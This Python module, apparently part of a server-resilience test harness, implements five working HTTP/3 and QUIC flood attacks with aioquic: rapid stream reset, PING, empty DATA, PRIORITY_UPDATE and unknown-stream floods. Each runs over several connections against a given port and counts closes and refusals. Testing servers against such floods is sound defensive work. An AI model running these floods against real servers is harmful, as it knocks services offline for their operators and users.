"""Floods of HTTP/3: frames of QUIC and of HTTP/3 that cost their sender next to nothing, by aioquic."""

import asyncio
import time
from collections.abc import Callable
from contextlib import AsyncExitStack

from .found import Found

CONNECTIONS = 4
#: Frames between two looks at what comes back.
BATCH = 64
#: Later than this a connection is no service.
PATIENCE_SECONDS = 5
CANCELLED = 0x10C
EMPTY_DATA = b"\x00\x00"
#: PRIORITY_UPDATE of stream 0 (RFC 9218, 7.2).
PRIORITY_UPDATE = b"\x80\x0f\x07\x00\x04\x00u=1"
GREASE_STREAM = b"\x21"


def rapid_reset(client) -> None:
    """Requests taken back at once."""
    for _ in range(BATCH):
        if client._quic.get_next_available_stream_id() >= 4 * client._quic._remote_max_streams_bidi:
            # As many as the server lets it have.
            return
        stream, answer = client.start("/bytes/1", "POST", ends=False)
        client._quic.reset_stream(stream, CANCELLED)
        client.answers.pop(stream, None)
        answer.done.cancel()


def ping(client) -> None:
    for number in range(BATCH // 8):
        client._quic.send_ping(number)
        # Each in a packet of its own: those of one packet become one frame.
        client.transmit()


def empty_data(client) -> None:
    if not hasattr(client, "body"):
        client.body, answer = client.start("/echo", "POST", ends=False)
        answer.done.add_done_callback(lambda done: done.cancelled() or done.exception())
    client._quic.send_stream_data(client.body, EMPTY_DATA * BATCH)


def priority_update(client) -> None:
    client._quic.send_stream_data(client.h3._local_control_stream_id, PRIORITY_UPDATE * BATCH)


def unknown_streams(client) -> None:
    for _ in range(BATCH):
        stream = client._quic.get_next_available_stream_id(is_unidirectional=True)
        client._quic.send_stream_data(stream, GREASE_STREAM, end_stream=True)


def flood(piece: Callable):
    async def one(port: int, until: float, found: Found) -> None:
        from .quic import connected

        while time.monotonic() < until:
            begin = time.monotonic()
            try:
                async with AsyncExitStack() as stack:
                    async with asyncio.timeout(PATIENCE_SECONDS):
                        client = await stack.enter_async_context(connected(port))
                    found.connections += 1
                    while not client.ended and time.monotonic() < until:
                        piece(client)
                        client.transmit()
                        await asyncio.sleep(0.001)
                    if client.ended:
                        found.ends[f"CLOSE {client.ended.error_code:#x}"] += 1
                        found.longest = max(found.longest, time.monotonic() - begin)
            except (OSError, TimeoutError):
                found.refused += 1

    def attack(port: int, seconds: float) -> Found:
        async def all_of_them() -> Found:
            found, until = Found(), time.monotonic() + seconds
            await asyncio.gather(*(one(port, until, found) for _ in range(CONNECTIONS)))
            return found

        return asyncio.run(all_of_them())

    return lambda: attack


ATTACKS = {
    "h3-rapid-reset": flood(rapid_reset),
    "h3-ping": flood(ping),
    "h3-empty-data": flood(empty_data),
    "h3-priority-update": flood(priority_update),
    "h3-unknown-streams": flood(unknown_streams),
}
